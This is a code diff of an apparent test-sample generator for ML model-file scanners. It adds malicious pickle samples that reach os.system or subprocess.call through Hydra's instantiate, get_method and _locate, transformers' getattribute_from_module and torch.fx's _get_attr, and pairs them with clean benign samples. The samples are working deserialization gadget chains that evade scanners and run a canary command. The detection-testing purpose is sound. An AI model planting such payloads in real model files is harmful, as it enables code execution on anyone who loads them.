@@ -123,9 +123,7 @@ def _fileconfig(out: Path, c: Canary) -> None:
         "[handler_h]\nclass=StreamHandler\n"
         f"args=(__import__('os').system({json.dumps(c.shell)}) and None,)\n"
     )
-    out.write_bytes(
-        _stream(_pk.call(_pk.stack_global("logging.config", "fileConfig"), str(side)))
-    )
+    out.write_bytes(_stream(_pk.call(_pk.stack_global("logging.config", "fileConfig"), str(side))))
 
 
 @benign("logging-config-dict-clean", "modelaudit-logging-config")
@@ -209,9 +207,8 @@ def _shelf(side: Path, value: object) -> None:
     import dbm.dumb
     import shelve
 
-    db = dbm.dumb.open(str(side), "c")
-    with shelve.Shelf(db, protocol=4) as s:  # the stored value is pickled here, not run
-        s["weights"] = value
+    with dbm.dumb.open(str(side), "c") as db, shelve.Shelf(db, protocol=4) as s:
+        s["weights"] = value  # the stored value is pickled here, not run
 
 
 @sample("shelve-open-getitem", "modelaudit-shelve-nested")
@@ -318,9 +315,7 @@ def _hf_clean(out: Path, c: Canary) -> None:
 
 def _hook_class(key: bytes) -> bytes:
     """type('Checkpoint', (PosixPath,), {<key>: Path.touch}): the key is computed at load."""
-    namespace = (
-        pickle.MARK + key + _pk.stack_global("pathlib", "Path.touch") + pickle.DICT
-    )
+    namespace = pickle.MARK + key + _pk.stack_global("pathlib", "Path.touch") + pickle.DICT
     bases = _pk.stack_global("pathlib", "PosixPath") + pickle.TUPLE1
     return (
         _pk.stack_global("builtins", "type")
@@ -368,14 +363,10 @@ def _walk_loader(out: Path, c: Canary) -> None:
 @sample("builtins-walk-sys-modules", "modelscan-338-builtins-introspection")
 def _walk_sys(out: Path, c: Canary) -> None:
     """exit.__init__.__globals__['sys'], then sys.modules['os'], each parked under builtins."""
-    sys_mod = _pk.call(
-        _pk.stack_global("builtins", "exit.__init__.__globals__.__getitem__"), "sys"
-    )
+    sys_mod = _pk.call(_pk.stack_global("builtins", "exit.__init__.__globals__.__getitem__"), "sys")
     os_mod = _pk.call(_pk.stack_global("builtins", "rt_sys.modules.__getitem__"), "os")
     run = _pk.call(_pk.stack_global("builtins", "rt_os2.system"), c.shell)
-    out.write_bytes(
-        _stream(_builtins_set("rt_sys", sys_mod), _builtins_set("rt_os2", os_mod), run)
-    )
+    out.write_bytes(_stream(_builtins_set("rt_sys", sys_mod), _builtins_set("rt_os2", os_mod), run))
 
 
 @benign("builtins-plain-containers-clean", "modelscan-338-builtins-introspection")
@@ -389,3 +380,72 @@ def _builtins_clean(out: Path, c: Canary) -> None:
         "window": slice(0, 8, 2),
     }
     out.write_bytes(pickle.dumps(obj, protocol=2))
+
+
+# --- ML-library resolvers that turn a dotted string into a callable -----------------------
+
+
+@sample(
+    "hydra-instantiate-target",
+    "ml-library-string-resolvers",
+    note="hydra-core 1.3.8 (the fire environment) refuses targets outside its target policy",
+)
+def _hydra_instantiate(out: Path, c: Canary) -> None:
+    """hydra.utils.instantiate({'_target_': 'subprocess.call', '_args_': [argv]}) from a pickle."""
+    cfg = {"_target_": "subprocess.call", "_args_": [c.argv]}
+    out.write_bytes(_stream(_pk.call(_pk.stack_global("hydra.utils", "instantiate"), cfg)))
+
+
+@sample("hydra-get-method", "ml-library-string-resolvers")
+def _hydra_get_method(out: Path, c: Canary) -> None:
+    """hydra.utils.get_method('os.system') returns the function; REDUCE calls it."""
+    fn = _pk.call(_pk.stack_global("hydra.utils", "get_method"), "os.system")
+    out.write_bytes(_stream(_pk.call(fn, c.shell)))
+
+
+@sample("hydra-locate-private", "ml-library-string-resolvers")
+def _hydra_locate(out: Path, c: Canary) -> None:
+    """hydra._internal.utils._locate('posix.system'): the private resolver behind both."""
+    fn = _pk.call(_pk.stack_global("hydra._internal.utils", "_locate"), "posix.system")
+    out.write_bytes(_stream(_pk.call(fn, c.shell)))
+
+
+@benign("hydra-config-dict-clean", "ml-library-string-resolvers")
+def _hydra_clean(out: Path, c: Canary) -> None:
+    """A saved Hydra config as plain data: _target_ strings that are never instantiated."""
+    cfg = {
+        "model": {"_target_": "torch.nn.Linear", "in_features": 8, "out_features": 2},
+        "optim": {"_target_": "torch.optim.AdamW", "lr": 0.0003},
+    }
+    out.write_bytes(pickle.dumps(cfg, protocol=4))
+
+
+# --- getattr-like helpers in ML packages, on a module reached through its package --------
+
+
+@sample("transformers-getattribute-from-module", "modelscan-338-getattr-helpers")
+def _hf_getattribute(out: Path, c: Canary) -> None:
+    """getattribute_from_module(auto_factory module, 'os'), then (os, 'system'): the module
+    object comes from GLOBAL transformers.models.auto / auto_factory."""
+    helper = _pk.stack_global("transformers.models.auto.auto_factory", "getattribute_from_module")
+    module = _pk.stack_global("transformers.models.auto", "auto_factory")
+    os_mod = _pk.call(helper, Raw(module), "os")
+    fn = _pk.call(helper, Raw(os_mod), "system")
+    out.write_bytes(_stream(_pk.call(fn, c.shell)))
+
+
+@sample("torch-fx-get-attr", "modelscan-338-getattr-helpers")
+def _fx_get_attr(out: Path, c: Canary) -> None:
+    """torch.fx.graph_module._get_attr(module, 'torch.os.system') walks a dotted path."""
+    helper = _pk.stack_global("torch.fx.graph_module", "_get_attr")
+    module = _pk.stack_global("torch.fx", "graph_module")
+    fn = _pk.call(helper, Raw(module), "torch.os.system")
+    out.write_bytes(_stream(_pk.call(fn, c.shell)))
+
+
+@benign("torch-state-dict-clean", "modelscan-338-getattr-helpers", loader="torch", name="model.pt")
+def _torch_clean(out: Path, c: Canary) -> None:
+    """An ordinary torch.save state dict."""
+    import torch
+
+    torch.save(torch.nn.Linear(4, 2).state_dict(), out)
